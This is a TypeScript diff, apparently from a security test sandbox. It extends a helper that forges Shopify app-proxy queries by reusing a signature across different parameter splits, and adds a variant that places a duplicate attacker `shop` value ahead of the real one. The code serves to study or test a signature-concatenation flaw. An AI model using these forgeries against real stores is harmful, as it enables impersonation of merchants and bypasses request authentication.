@@ -2,7 +2,8 @@ import { sign } from "../../sandbox/shopify/storefront/app-proxy.ts";
 
 /**
  * Queries that an attacker makes from one that Shopify signed for their own shop: the signed pairs have no separator, so the same
- * signature fits a query for the victim, once with a parameter of the attacker's own and once with Shopify's alone.
+ * signature fits a query for the victim: with a parameter of the attacker's own, with Shopify's alone, and with a `shop` of the attacker's
+ * before the real one, which is signed with it.
  */
 export function recutProxyQueries(victim: string, secret: string, seconds: number): URLSearchParams[] {
   const time = String(seconds);
@@ -10,7 +11,10 @@ export function recutProxyQueries(victim: string, secret: string, seconds: numbe
   const realText = `path_prefix=${real.path_prefix}shop=${real.shop}timestamp=${time}`;
   const wanted = { path_prefix: "/a/evil", shop: victim, timestamp: time };
   const wantedText = `path_prefix=/a/evilshop=${victim}timestamp=${time}`;
+  const twice = new URLSearchParams([["shop", `${victim}t=`], ...Object.entries(real)]);
+  const ofTwice = { logged_in_customer_id: "", path_prefix: real.path_prefix, shop: victim };
   return [
+    { asked: twice, forged: { ...ofTwice, t: `,${real.shop}`, timestamp: time } },
     {
       asked: { ...real, m: `${wantedText}z=` },
       forged: { ...wanted, logged_in_customer_id: "m=", z: realText },
